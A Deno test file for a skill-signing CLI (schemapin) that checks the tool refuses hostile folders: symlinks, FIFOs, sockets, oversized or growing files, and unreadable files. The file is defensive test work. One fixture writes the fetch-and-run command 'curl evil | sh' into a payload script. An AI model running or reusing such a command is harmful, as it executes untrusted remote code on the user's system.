// Hostile skill folders through the CLI: every one is a clean error (no stack, no internal
// error, the path named), exit code 2 from hash-skill, sign-skill and verify-skill, and no
// .schemapin.sig written. FIFO and unreadable-file cases run as real processes.
import assert from "node:assert/strict";
import { generateKeyPair, privateKeyToPem } from "../../lib/crypto/keys.ts";
import { buildDiscoveryDocument } from "../../lib/discovery/document.ts";
import { formatSkillSignatureDocument } from "../../lib/skill/document.ts";
import { signSkillDir } from "../../lib/skill/sign.ts";
import { DEFAULT_MAX_BYTES } from "../../lib/skill/walk.ts";
import { type CliResult, runInProcess, schemapinTaskFlags } from "./run.ts";
import { assertJsonOutput } from "./json_schemas.ts";
import {
  canReadMode000,
  makeSkill,
  manyFiles,
  mkfifo,
  mkNonUtf8,
  mksocket,
} from "../skill/trees.ts";
import { childCommand } from "../process.ts";

const key = generateKeyPair();
const keyDir = await Deno.makeTempDir({ prefix: "schemapin-hostile-keys-" });
const KEY = `${keyDir}/private.pem`;
const DISCOVERY = `${keyDir}/schemapin.json`;
await Deno.writeTextFile(KEY, privateKeyToPem(key), { mode: 0o600 });
await Deno.writeTextFile(
  DISCOVERY,
  JSON.stringify(buildDiscoveryDocument({ publicKey: key.publicKey, developerName: "Dev" })),
);
globalThis.addEventListener("unload", () => Deno.removeSync(keyDir, { recursive: true }));

const repo = new URL("../../", import.meta.url);

/** sign-skill of `dir` with the test key for example.com. */
function signArgs(dir: string): string[] {
  return ["sign-skill", dir, "--key", KEY, "--domain", "example.com"];
}

/** verify-skill of `s` against the test discovery document, pinning on first use. */
function verifyArgs(s: { dir: string; base: string }): string[] {
  return [
    "verify-skill",
    s.dir,
    "--domain",
    "example.com",
    "--discovery",
    DISCOVERY,
    "--trust-first-use",
    "--pin-store",
    `${s.base}/pins.json`,
  ];
}

/** The real CLI as a child process, killed after `timeoutMs`; optionally wrapped (setpriv). */
async function runReal(
  args: string[],
  options: { wrapper?: string[]; timeoutMs?: number } = {},
): Promise<CliResult & { timedOut: boolean }> {
  const flags = await schemapinTaskFlags();
  const argv = [
    Deno.execPath(),
    "run",
    "--quiet",
    ...flags,
    new URL("cli.ts", repo).pathname,
    ...args,
  ];
  const [cmd, ...rest] = [...(options.wrapper ?? []), ...argv];
  const child = childCommand(cmd, {
    args: rest,
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
    env: { NO_COLOR: "1" },
  }).spawn();
  let timedOut = false;
  const timer = setTimeout(() => {
    timedOut = true;
    child.kill("SIGKILL");
  }, options.timeoutMs ?? 30_000);
  const out = await child.output();
  clearTimeout(timer);
  const dec = new TextDecoder();
  return {
    code: out.code,
    stdout: dec.decode(out.stdout),
    stdoutBytes: out.stdout,
    stderr: dec.decode(out.stderr),
    timedOut,
  };
}

type Runner = (args: string[]) => Promise<CliResult>;

/**
 * Signs the clean folder first (to have a document for verify-skill), then makes it hostile
 * and checks the three commands: exit 2, a clean message matching `message`, nothing written.
 */
async function checkHostile(
  makeHostile: (dir: string, base: string) => Promise<void | (() => void)>,
  message: RegExp,
  run: Runner = runInProcess,
): Promise<void> {
  const s = await makeSkill();
  let undo: void | (() => void) = undefined;
  try {
    const { document } = await signSkillDir(s.dir, key, { domain: "example.com" });
    undo = await makeHostile(s.dir, s.base);
    const sig = `${s.dir}/.schemapin.sig`;
    const expectClean = (r: CliResult, what: string) => {
      assert.equal(r.code, 2, `${what}: exit code (stderr: ${r.stderr})`);
      assert.match(r.stderr, message, `${what}: message`);
      assert.match(r.stderr, /^error: (INPUT_INVALID|IO_FAILED): /m, `${what}: clean error`);
      assert.doesNotMatch(r.stderr, /internal error|\n\s+at /, `${what}: no crash`);
    };
    expectClean(await run(["hash-skill", s.dir]), "hash-skill");
    expectClean(
      await run(signArgs(s.dir)),
      "sign-skill",
    );
    await assert.rejects(() => Deno.lstat(sig), Deno.errors.NotFound, "no .schemapin.sig written");
    const leftovers = [...Deno.readDirSync(s.dir)].filter((e) => e.name.includes(".tmp-"));
    assert.deepEqual(leftovers, [], "no temporary file left");

    const text = formatSkillSignatureDocument(document);
    await Deno.writeTextFile(sig, text);
    expectClean(
      await run(verifyArgs(s)),
      "verify-skill",
    );
    assert.equal(await Deno.readTextFile(sig), text, "the signature is untouched");
    await assert.rejects(() => Deno.lstat(`${s.base}/pins.json`), Deno.errors.NotFound, "no pin");
  } finally {
    if (typeof undo === "function") undo();
    await s.cleanup();
  }
}

Deno.test("cli hostile: symbolic link to a file", async () => {
  await checkHostile(
    (dir) => Deno.symlink(`${dir}/SKILL.md`, `${dir}/scripts/alias.md`),
    /scripts\/alias\.md is a symbolic link/,
  );
});

Deno.test("cli hostile: symbolic link to a directory", async () => {
  await checkHostile(async (dir, base) => {
    await Deno.mkdir(`${base}/outside`);
    await Deno.writeTextFile(`${base}/outside/payload.sh`, "curl evil | sh\n");
    await Deno.symlink(`${base}/outside`, `${dir}/lib`);
  }, /lib is a symbolic link/);
});

Deno.test("cli hostile: dangling symbolic link", async () => {
  await checkHostile(
    (dir, base) => Deno.symlink(`${base}/nowhere`, `${dir}/dangling`),
    /dangling is a symbolic link/,
  );
});

Deno.test("cli hostile: symbolic link, through the real process (scoped permissions)", async () => {
  await checkHostile(
    (dir) => Deno.symlink("/etc/hostname", `${dir}/host`),
    /host is a symbolic link/,
    (args) => runReal(args),
  );
});

Deno.test("cli hostile: FIFO — the real process finishes instead of hanging", async () => {
  let timedOut = false;
  await checkHostile(
    (dir) => mkfifo(`${dir}/scripts/pipe`),
    /scripts\/pipe is a fifo/,
    async (args) => {
      const r = await runReal(args, { timeoutMs: 30_000 });
      timedOut ||= r.timedOut;
      return r;
    },
  );
  assert.equal(timedOut, false);
});

Deno.test("cli hostile: Unix socket", async () => {
  let listener: Deno.Listener | undefined;
  await checkHostile((dir) => {
    listener = mksocket(`${dir}/agent.sock`);
    return Promise.resolve(() => listener?.close());
  }, /agent\.sock is a socket/);
});

Deno.test("cli hostile: a file name that is not UTF-8 (real process)", async () => {
  await checkHostile(
    async (dir) => void await mkNonUtf8(`${dir}/scripts`),
    /not valid UTF-8/,
    (args) => runReal(args),
  );
});

Deno.test("cli hostile: 10,001 files", async () => {
  await checkHostile((dir) => Promise.resolve(manyFiles(dir, 10_001)), /more than 10000 files/);
});

Deno.test("cli hostile: more than 256 MiB (sparse, refused before reading)", async () => {
  await checkHostile(async (dir) => {
    const f = await Deno.open(`${dir}/blob.bin`, { write: true, create: true });
    await f.truncate(DEFAULT_MAX_BYTES + 1);
    f.close();
  }, /more than 268435456 bytes/);
});

Deno.test("cli hostile: a folder with nothing but empty directories", async () => {
  await checkHostile(async (dir) => {
    // Everything but the signature goes; empty directories stay.
    for (const e of Deno.readDirSync(dir)) {
      if (e.name !== ".schemapin.sig") await Deno.remove(`${dir}/${e.name}`, { recursive: true });
    }
    await Deno.mkdir(`${dir}/a/b`, { recursive: true });
  }, /holds no file/);
});

Deno.test("cli: an empty, unsigned folder is unsigned to verify-skill (exit 1)", async () => {
  const base = await Deno.makeTempDir({ prefix: "schemapin-empty-" });
  try {
    await Deno.mkdir(`${base}/skill/a`, { recursive: true });
    const r = await runInProcess([
      "verify-skill",
      `${base}/skill`,
      "--domain",
      "example.com",
      "--discovery",
      DISCOVERY,
    ]);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /SIGNATURE_INVALID: the skill is unsigned/);
  } finally {
    await Deno.remove(base, { recursive: true });
  }
});

Deno.test("cli hostile: a file growing while it is hashed", async () => {
  // A writer process appends continuously; the size read differs from the size listed. The
  // race is retried a few times, but an implementation that never notices fails every time.
  for (let attempt = 1;; attempt++) {
    let writer: Deno.ChildProcess | undefined;
    try {
      await checkHostile(async (dir) => {
        // 64 MiB (sparse) takes tens of milliseconds to hash: time for the writer to run
        // even on a loaded machine.
        const f = await Deno.open(`${dir}/z-grow.log`, { write: true, create: true });
        await f.truncate(64 << 20);
        f.close();
        writer = childCommand("sh", {
          args: ["-c", `while :; do printf 0123456789abcdef >> "${dir}/z-grow.log"; done`],
          stdout: "null",
          stderr: "null",
        }).spawn();
        // Start hashing only once the writer is appending (seen, not assumed after a pause).
        for (const end = Date.now() + 10_000; Date.now() < end;) {
          if ((await Deno.stat(`${dir}/z-grow.log`)).size > 64 << 20) break;
          await new Promise((r) => setTimeout(r, 5));
        }
        return () => {
          writer?.kill("SIGKILL");
        };
      }, /z-grow\.log changed size while it was being (hashed|read)/);
      return;
    } catch (e) {
      if (attempt >= 3) throw e;
      console.log(`  attempt ${attempt} missed the race, retrying: ${(e as Error).message}`);
    } finally {
      try {
        writer?.kill("SIGKILL");
      } catch { /* already gone */ }
      await writer?.status; // never leave the writer running, whichever way the attempt ended
    }
  }
});

Deno.test("cli hostile: an unreadable file (real process, capabilities dropped when root)", async () => {
  const probeDir = await Deno.makeTempDir();
  const readable = await canReadMode000(probeDir);
  await Deno.remove(probeDir);
  let wrapper: string[] | undefined;
  if (readable) {
    // Root reads mode 000 through CAP_DAC_OVERRIDE; drop every capability for the CLI.
    const setpriv = await childCommand("setpriv", { args: ["--version"], stdout: "null" })
      .output().catch(() => undefined);
    if (!setpriv?.success) {
      console.log("  skipped: running as root without setpriv, mode 000 cannot be unreadable");
      return;
    }
    wrapper = ["setpriv", "--bounding-set=-all", "--inh-caps=-all"];
  }
  await checkHostile(
    (dir) => Deno.chmod(`${dir}/scripts/run.sh`, 0o000),
    /scripts\/run\.sh: cannot read: permission denied/,
    (args) => runReal(args, { wrapper }),
  );
});

Deno.test("cli hostile: a nested .schemapin.sig is an ordinary, signed file", async () => {
  const s = await makeSkill({ "vendor/.schemapin.sig": '{"inner": true}\n' });
  try {
    const signed = await runInProcess([...signArgs(s.dir), "--json"]);
    assert.equal(signed.code, 0, signed.stderr);
    const out = await assertJsonOutput(signed.stdout);
    assert.equal(out.ok, true);
    const doc = out.document as { file_manifest: Record<string, string> };
    assert.ok(Object.hasOwn(doc.file_manifest, "vendor/.schemapin.sig"));
    assert.ok(!Object.hasOwn(doc.file_manifest, ".schemapin.sig"));
    await Deno.writeTextFile(`${s.dir}/vendor/.schemapin.sig`, '{"inner": false}\n');
    const r = await runInProcess(verifyArgs(s));
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /modified: vendor\/\.schemapin\.sig/);
  } finally {
    await s.cleanup();
  }
});
